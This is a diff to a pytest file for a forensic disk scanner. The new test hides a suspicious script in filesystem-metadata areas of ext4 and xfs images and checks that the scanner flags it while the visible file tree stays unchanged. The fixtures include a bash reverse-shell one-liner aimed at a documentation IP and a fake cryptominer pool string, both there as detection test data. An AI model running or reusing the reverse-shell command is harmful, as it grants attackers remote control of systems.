@@ -15,12 +15,19 @@ from hypothesis import strategies as st
 
 from clean_room_analysis import limits
 from clean_room_analysis.cli import main
-from clean_room_analysis.free_space import free_runs, scan_free_space
+from clean_room_analysis.free_maps import free_runs
+from clean_room_analysis.free_space import scan_free_space, scan_own_space
 from clean_room_analysis.model import Finding, NotLookedAt, Severity
+from clean_room_analysis.own_space import own_runs
+from clean_room_analysis.raw_tree import RawTree
 
 MINER = b"\x7fELF" + b"\0" * 60 + b"stratum+tcp://pool.example:3333 xmrig donate-level"
 _EXT = file_system()
 SCRIPT = b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"
+
+
+def walked(disk: bytes, kind: str) -> list[str]:
+    return [entry.path for entry in RawTree(io.BytesIO(disk), kind).walk(lambda path, why: None)]
 
 
 def results(disk: bytes, kind: str, seconds: float = 60) -> list[Finding | NotLookedAt]:
@@ -49,6 +56,30 @@ def test_what_is_left_in_free_blocks_is_found(name: str) -> None:
     (script,) = [one for one in found if one.rule == "reverse_shell_script"]
     at = int(script.evidence.split("at byte ")[1].split(" ")[0])
     assert place <= at < place + len(SCRIPT)
+
+
+@pytest.mark.parametrize("name", ["ext2-old", "ext4", "ext4-few-inodes", "ext4-meta_bg", "ext4-no-extents", "xfs"])
+def test_what_is_hidden_where_the_file_system_keeps_its_own_is_found(name: str) -> None:
+    disk, kind = file_system(name), "xfs" if name.startswith("xfs") else "ext4"
+    runs = list(own_runs(io.BytesIO(disk), kind))
+    free = list(free_runs(io.BytesIO(disk), kind))
+    assert runs and all(first >= 0 and first + length <= len(disk) for first, length in runs)
+
+    def scanned(changed: bytes) -> list[Finding | NotLookedAt]:
+        return list(scan_own_space(lambda: io.BytesIO(changed), kind, VOLUME, 0, None, 60))
+
+    assert scanned(disk) == []
+    for first, length in [run for run in runs if run[1] >= 4096][:4] + runs[-2:]:
+        if length < 1024 or any(start <= first < start + size for start, size in free):
+            continue
+        changed = bytearray(disk)
+        place = first + length - 1024 if length > 1024 else first
+        changed[place : place + len(SCRIPT)] = SCRIPT
+        assert [one.rule for one in scanned(bytes(changed)) if isinstance(one, Finding)] == ["reverse_shell_script"], (first, length)
+        # No file has any of it: what the kernel lists is the same.
+        assert walked(bytes(changed), kind) == walked(disk, kind)
+        if kind == "xfs":
+            break
 
 
 def test_the_rules_are_held_to_what_says_it_holds_no_files(tmp_path: Path) -> None:
